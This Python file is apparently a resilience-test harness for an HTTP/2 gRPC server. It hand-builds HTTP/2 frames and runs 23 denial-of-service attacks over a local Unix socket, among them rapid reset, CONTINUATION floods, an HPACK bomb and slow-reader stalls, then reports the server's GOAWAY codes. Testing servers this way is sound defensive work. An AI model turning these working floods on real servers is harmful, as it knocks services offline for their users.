"""Attacks on an HTTP/2 server, each a program: `python attacks.py <name> <socket> <seconds> <uid> <connections>`.

An attacker becomes that user, if it may, connects, sends as fast as it can until it is cut, and connects again; so
many of them at once. It prints what they saw, as JSON: how often they were connected and how often told to go, with
the codes that they were told. ATTACKED_METHODS are two methods of the server, with a comma between: one that answers
something small, and one that answers something large.
"""

from __future__ import annotations

import json
import os
import socket
import struct
import sys
import time
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from itertools import chain, islice

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">HBBBL", len(payload) >> 8, len(payload) & 255, kind, flags, stream) + payload


def literal(name: bytes, value: bytes, *, indexed: bool = False) -> bytes:
    return (b"\x40" if indexed else b"\x00") + _length(len(name)) + name + _length(len(value)) + value


def _length(number: int) -> bytes:
    return bytes((number,)) if number < 127 else bytes((127, (number - 127) & 127 | 128, (number - 127) >> 7))


def request(method: bytes, *more: bytes) -> bytes:
    """The header block of a call."""
    fields = [(b":method", b"POST"), (b":scheme", b"http"), (b":path", method), (b":authority", b"localhost")]
    fields += [(b"te", b"trailers"), (b"content-type", b"application/grpc")]
    return b"".join(literal(*each) for each in fields) + b"".join(more)


HELLO = PREFACE + frame(SETTINGS, 0, 0)
SMALL, LARGE = os.environb.get(b"ATTACKED_METHODS", b"/test.Service/Echo,/test.Service/Large").split(b",")
CALL = request(SMALL)
MESSAGE = b"\x00\x00\x00\x00\x02hi"


def rapid_reset() -> Iterator[bytes]:
    stream = 1
    while True:
        pieces = []
        for _ in range(50):
            pieces.append(frame(HEADERS, 4, stream, CALL) + frame(DATA, 1, stream, MESSAGE))
            pieces.append(frame(RST_STREAM, 0, stream, b"\x00\x00\x00\x08"))
            stream += 2
        yield b"".join(pieces)


def continuation_flood() -> Iterator[bytes]:
    yield frame(HEADERS, 0, 1, CALL)
    while True:
        yield frame(CONTINUATION, 0, 1, literal(b"x", b"y" * 100)) * 100


def empty_continuation_flood() -> Iterator[bytes]:
    yield frame(HEADERS, 0, 1, CALL)
    while True:
        yield frame(CONTINUATION, 0, 1) * 1000


def ping_flood() -> Iterator[bytes]:
    while True:
        yield frame(PING, 0, 0, b"12345678") * 1000


def settings_flood() -> Iterator[bytes]:
    while True:
        yield frame(SETTINGS, 0, 0, struct.pack(">HL", 4, 65535) * 50) * 100


def empty_data_flood() -> Iterator[bytes]:
    yield frame(HEADERS, 4, 1, CALL)
    while True:
        yield frame(DATA, 0, 1) * 1000


def small_data_flood() -> Iterator[bytes]:
    yield frame(HEADERS, 4, 1, CALL) + frame(DATA, 0, 1, b"\x00\x00\x3f\xff\xff")
    while True:
        yield frame(DATA, 0, 1, b"x") * 1000


def padded_data_flood() -> Iterator[bytes]:
    yield frame(HEADERS, 4, 1, CALL)
    while True:
        yield frame(DATA, 8, 1, b"\xff" + bytes(255)) * 100


def window_update_flood() -> Iterator[bytes]:
    yield frame(HEADERS, 4, 1, CALL)
    while True:
        yield frame(WINDOW_UPDATE, 0, 0, b"\x00\x00\x00\x01") * 1000


def window_drip() -> Iterator[bytes]:
    """Request large responses, and grant a window of one byte at a time."""
    block = request(LARGE)
    for stream in range(1, 20, 2):
        yield frame(HEADERS, 4, stream, block) + frame(DATA, 1, stream, MESSAGE)
    while True:
        yield frame(WINDOW_UPDATE, 0, 0, b"\x00\x00\x00\x01") * 1000


def stray_data() -> Iterator[bytes]:
    """DATA frames for a finished call."""
    yield frame(HEADERS, 5, 1, request(b"/no/Such"))
    while True:
        yield frame(DATA, 0, 1, bytes(200)) * 100


def priority_flood() -> Iterator[bytes]:
    while True:
        yield frame(PRIORITY, 0, 1, b"\x00\x00\x00\x00\x10") * 1000


def hpack_bomb() -> Iterator[bytes]:
    large = literal(b"x-bomb", b"b" * 4000, indexed=True)
    yield frame(HEADERS, 5, 1, CALL + large)
    stream = 3
    while True:  # each byte refers to the header of 4,000 bytes
        yield frame(HEADERS, 5, stream, CALL + b"\xbe" * 12000)
        stream += 2


def table_flood() -> Iterator[bytes]:
    """Header blocks with thousands of table size updates and no headers."""
    stream = 1
    while True:
        yield frame(HEADERS, 5, stream, b"\x20" * 16000)
        stream += 2


def many_fields() -> Iterator[bytes]:
    """Calls with the maximal number of headers, one byte each."""
    stream = 1
    while True:
        yield frame(HEADERS, 5, stream, request(b"/no/Such") + b"\x95" * 215)
        stream += 2


def huffman_flood() -> Iterator[bytes]:
    """Calls with the maximal metadata, in the Huffman codes that are slowest to decode."""
    stream = 1
    while True:
        large = b"\x00\x01x" + b"\xff" + _length(4800)[1:] + b"\x18\xc6\x31\x8c\x63" * 960
        yield frame(HEADERS, 5, stream, request(b"/no/Such") + large)
        stream += 2


def call_flood() -> Iterator[bytes]:
    stream = 1
    while True:
        pieces = []
        for _ in range(50):
            pieces.append(frame(HEADERS, 4, stream, CALL) + frame(DATA, 1, stream, MESSAGE))
            stream += 2
        yield b"".join(pieces)


def unknown_method_flood() -> Iterator[bytes]:
    stream = 1
    while True:
        pieces = []
        for _ in range(50):
            pieces.append(frame(HEADERS, 5, stream, request(b"/no/Such")))
            stream += 2
        yield b"".join(pieces)


def half_open_streams() -> Iterator[bytes]:
    """The maximal number of calls, each with all but the last byte of a large message; then nothing."""
    length = 1 << 20
    for stream in range(1, 200, 2):
        yield frame(HEADERS, 4, stream, CALL) + frame(DATA, 0, stream, b"\x00" + length.to_bytes(4, "big"))
        for _ in range(length // 16384 - 1):
            yield frame(DATA, 0, stream, bytes(16384))
    while True:
        yield b""


def slow_reader() -> Iterator[bytes]:
    """Request large responses, grant a window for all of them, and read nothing."""
    yield frame(SETTINGS, 0, 0, struct.pack(">HL", 4, 2**31 - 1)) + frame(WINDOW_UPDATE, 0, 0, b"\x7f\xff\x00\x00")
    block = request(LARGE)
    for stream in range(1, 180, 2):
        yield frame(HEADERS, 4, stream, block) + frame(DATA, 1, stream, MESSAGE)
    while True:
        yield b""


def shut_window() -> Iterator[bytes]:
    """Request large responses, and grant one byte of them."""
    yield frame(SETTINGS, 0, 0, struct.pack(">HL", 4, 1))
    block = request(LARGE)
    for stream in range(1, 180, 2):
        yield frame(HEADERS, 4, stream, block) + frame(DATA, 1, stream, MESSAGE)
    while True:
        yield b""


def connect_flood() -> Iterator[bytes]:
    """Connections without any data."""
    raise ConnectionAbortedError
    yield b""


def patient_connect_flood() -> Iterator[bytes]:
    """The same by a client that waits for space in the accept queue, and so does not use the CPU."""
    yield from connect_flood()


ATTACKS: dict[str, Callable[[], Iterator[bytes]]] = {
    attack.__name__: attack
    for attack in (
        rapid_reset,
        continuation_flood,
        empty_continuation_flood,
        ping_flood,
        settings_flood,
        empty_data_flood,
        small_data_flood,
        padded_data_flood,
        window_update_flood,
        window_drip,
        stray_data,
        priority_flood,
        hpack_bomb,
        table_flood,
        many_fields,
        huffman_flood,
        call_flood,
        unknown_method_flood,
        half_open_streams,
        slow_reader,
        shut_window,
        connect_flood,
        patient_connect_flood,
    )
}
HURRIED = ("connect_flood", "patient_connect_flood")
"""These attacks do not read from the server."""


@dataclass
class Outcome:
    connected: int = 0
    told: int = 0
    codes: set[int] = field(default_factory=set)


def attack(name: str, path: str, seconds: float, connections: int) -> dict[str, object]:
    ready = _ready(name)
    with ThreadPoolExecutor(connections) as threads:
        until = time.monotonic() + seconds
        outcomes = list(threads.map(lambda _: _attack(name, path, ready, until), range(connections)))
    codes = sorted(set().union(*(outcome.codes for outcome in outcomes)))
    connected = sum(outcome.connected for outcome in outcomes)
    return {"connected": connected, "told": sum(outcome.told for outcome in outcomes), "codes": codes}


def _ready(name: str) -> list[bytes]:
    """The first bytes of an attack, built once, so that the attacker itself uses little CPU."""
    ready: list[bytes] = []
    if name not in HURRIED:
        for piece in ATTACKS[name]():
            ready.append(piece)
            if not piece or len(ready) * len(piece) > 1 << 20:
                break
    return ready


def _attack(name: str, path: str, ready: list[bytes], until: float) -> Outcome:
    outcome = Outcome()
    while time.monotonic() < until:
        with socket.socket(socket.AF_UNIX) as connection:
            connection.settimeout(None if name == "patient_connect_flood" else 0.05)
            try:
                connection.connect(path)
                connection.sendall(HELLO)
                outcome.connected += 1
                _send(connection, chain(ready, islice(ATTACKS[name](), len(ready), None)), until)
            except OSError:
                pass
            code = None if name in HURRIED else _goodbye(connection)
            if code is not None:
                outcome.told += 1
                outcome.codes.add(code)
    return outcome


def _send(connection: socket.socket, pieces: Iterator[bytes], until: float) -> None:
    for piece in pieces:
        if time.monotonic() > until:
            return
        try:
            connection.sendall(piece)
        except TimeoutError:
            return  # the server no longer reads
        if not piece:
            time.sleep(0.02)


def _goodbye(connection: socket.socket) -> int | None:
    """The error code of the GOAWAY, if one was received."""
    received = b""
    until = time.monotonic() + 0.2
    connection.settimeout(0.1)
    try:
        while time.monotonic() < until and (piece := connection.recv(1 << 16)):
            received += piece
    except OSError:
        pass
    at = 0
    while at + 9 <= len(received):
        size = int.from_bytes(received[at : at + 3], "big")
        if received[at + 3] == GOAWAY:
            return int.from_bytes(received[at + 13 : at + 17], "big")
        at += 9 + size
    return None


if __name__ == "__main__":
    if os.geteuid() == 0:
        os.setuid(int(sys.argv[4]))
    sys.stdout.write("ready\n")
    sys.stdout.flush()
    json.dump(attack(sys.argv[1], sys.argv[2], float(sys.argv[3]), int(sys.argv[5])), sys.stdout)
